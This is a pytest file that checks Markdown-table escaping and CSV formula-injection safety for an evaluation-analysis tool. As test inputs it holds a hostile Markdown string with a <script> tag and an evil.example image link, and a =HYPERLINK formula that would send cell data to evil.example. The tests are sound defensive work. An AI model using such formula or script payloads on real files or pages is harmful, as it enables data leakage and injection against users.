"""core.cells: hostile names and texts shown as text in Markdown tables (review 7, F5)."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from analysis.echoreview.report import pairwise_markdown
from analysis.reviewers import markdown as reviewers_markdown
from core import cells
from core.cells import FORMULA_START, md_cell

HOSTILE = "![x](http://evil.example/p.png) **j** a|b <script>x</script> ~~s~~"
SHOWN = r"!\[x\](http://evil.example/p.png) \*\*j\*\* a\|b &lt;script&gt;x&lt;/script&gt; \~\~s\~\~"


def test_md_cell_known_values() -> None:
    assert md_cell(HOSTILE) == SHOWN
    assert md_cell("_gpt_ __init__ broad_gen") == r"\_gpt\_ \_\_init\_\_ broad_gen"  # review 8, F9
    assert md_cell("broad_gen") == "broad_gen" and md_cell("a\\b`c`\r\nd") == "a&#92;b&#96;c&#96;<br>d"


def test_reviewers_and_echoreview_tables_escape_their_name_cells() -> None:
    stats = {
        f"{k}{s}": 0.5 for k in ("percent", "kappa", "kappa_w", "rho", "tau") for s in ("", "_lo", "_hi")
    }
    table = pd.DataFrame(
        [{"judge": HOSTILE, "papers": "all 2", "comparison": "judge vs mean reviewer", "n": 2, **stats}]
    )
    text = reviewers_markdown(table, "Originality")
    assert (
        SHOWN in text and "<script>" not in text and text.splitlines()[2].count(" | ") == 9
    )  # 10 cells: no pipe split the judge
    pairs = pd.DataFrame(
        [
            {
                "judge": HOSTILE,
                "dimension": "d",
                "generator": "g|h",
                "opponent": "[o](x)",
                "protocol": "both orders",
                "n": 2,
                "n_pairs": 1,
                "n_flip": 0,
                "n_both_orders": 2,
                **{f"{k}{s}": 0.5 for k in ("win", "tie", "loss") for s in ("", "_lo", "_hi")},
            }
        ]
    )
    row = pairwise_markdown(pairs)[4]
    assert SHOWN in row and r"g\|h" in row and r"\[o\](x)" in row and "<script>" not in row


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"x")'


def test_results_csv_is_formula_safe_and_read_back_as_written(tmp_path: Path) -> None:
    """Issue 25 #19: results.csv kept a judge's raw answer `=HYPERLINK(...)` as a cell a spreadsheet runs. It
    is quoted now, and the analysis (pandas) and the viewer (DuckDB) read every cell back as the run had it."""
    from analysis.load.collect import load_results
    from analysis.load.synthetic import synthetic_results
    from analysis.view.data import Study
    from experiments.study import results_writers

    frame = synthetic_results(n_instances=2, seed=1).iloc[:12].reset_index(drop=True)
    frame = frame.astype({c: str for c in frame.columns if isinstance(frame[c].dtype, pd.CategoricalDtype)})
    texts = [FORMULA, "'=already quoted", "-3", "+ plus", "@at", "'plain", "-", "plain"]
    frame["raw"] = (texts * 2)[: len(frame)]
    (tmp_path / "run").mkdir()
    results_writers(frame)["results.csv"](tmp_path / "run" / "results.csv")
    cells = [c for row in csv.reader((tmp_path / "run" / "results.csv").open()) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START) and c not in ("-3", "-")]  # nothing would run
    assert f"'{FORMULA}" in cells
    loaded = load_results(tmp_path)
    assert loaded["raw"].astype(str).tolist() == frame["raw"].tolist()
    with Study(tmp_path) as study:
        shown = study.item_rows(frame["instance_id"].iloc[0], frame["candidate_id"].iloc[0])
        by_row = frame.set_index(["prompt_id", "sample_idx", "dimension"])["raw"]
        for row in shown.itertuples():
            assert row.raw == by_row[(row.prompt_id, row.sample_idx, row.dimension)]


def test_ingested_labels_are_formula_safe_and_read_back_as_written(tmp_path: Path) -> None:
    """Issue 25 #19: `annotate ingest` wrote humans_new.csv with plain to_csv: an annotator named
    `=HYPERLINK(...)` stayed a formula. Written by the one formula-safe writer; load_humans undoes it."""
    from analysis.annotate import select as annotate
    from analysis.load.collect import load_humans

    key = "item,instance_id,candidate_id,source,dimension,low,high\nA,i1,-c1,reference,originality,0,3\n"
    (tmp_path / "key.csv").write_text(key)
    sheet = pd.DataFrame({"item": ["A"], "annotator": [FORMULA], "score": ["2"]})
    sheet.to_csv(tmp_path / "sheet.csv", index=False)
    out = tmp_path / "humans_new.csv"
    argv = ["ingest", str(tmp_path / "sheet.csv"), "--key", str(tmp_path / "key.csv"), "--out", str(out)]
    assert annotate.main(argv) == 0
    cells = [c for row in csv.reader(out.open()) for c in row]
    assert f"'{FORMULA}" in cells and FORMULA not in cells and "'-c1" in cells
    labels = load_humans(out)
    assert labels["annotator"].tolist() == [FORMULA] and labels["candidate_id"].tolist() == ["-c1"]


def _csv_cell_per_cell(values: pd.Series) -> pd.Series:
    """csv_safe's column rule as it was first written: `_csv_cell` on every cell (the reference)."""
    return values.astype(object).map(cells._csv_cell)


CELLS = [
    "=SUM(1)",
    "-3",
    "+x",
    "@a",
    "'=b",
    "''-c",
    "ok",
    "",
    "'",
    "'-3",
    "\r1",
    "-1e5",
    "\tz",
    "-٣",
    " -1",
    "x=",
    None,
    float("nan"),
    1,
    True,
    2.5,
]


def test_csv_safe_columns_equal_the_per_cell_rule_whatever_the_dtype() -> None:
    rng = np.random.default_rng(0)
    for _ in range(400):
        picks = rng.choice(len(CELLS), size=int(rng.integers(0, 25)))
        index = rng.permutation(len(picks)) + 3
        plain = pd.Series([CELLS[i] for i in picks], index=index, name="c", dtype=object)
        text = pd.Series([CELLS[i] for i in picks if i < 18], dtype="str", name="t")
        for values in (plain, text, text.astype("category")):
            want, got = _csv_cell_per_cell(values), cells._csv_column(values)
            assert got.dtype == want.dtype and got.index.equals(want.index) and got.name == want.name
            assert [repr(v) for v in got] == [repr(v) for v in want]


def test_csv_safe_checks_a_text_column_once_per_risky_cell(monkeypatch: pytest.MonkeyPatch) -> None:
    """A replay's results table is mostly long texts that start with no formula character: Arrow finds the
    few that do (a per-cell Python call cost ~20% of a replay of the RQ-Bench-sized study)."""
    seen: list[object] = []
    rule = cells._csv_cell
    monkeypatch.setattr(cells, "_csv_cell", lambda v: seen.append(v) or rule(v))
    frame = pd.DataFrame({"raw": pd.Series(['{"a": 1}'] * 5000 + ["=HYPERLINK(x)", "-3"], dtype="str")})
    out = cells.csv_safe(frame)
    assert out["raw"].iloc[-2:].tolist() == ["'=HYPERLINK(x)", "-3"] and out["raw"].iloc[0] == '{"a": 1}'
    assert len(seen) <= 3  # the two risky cells (and the header)
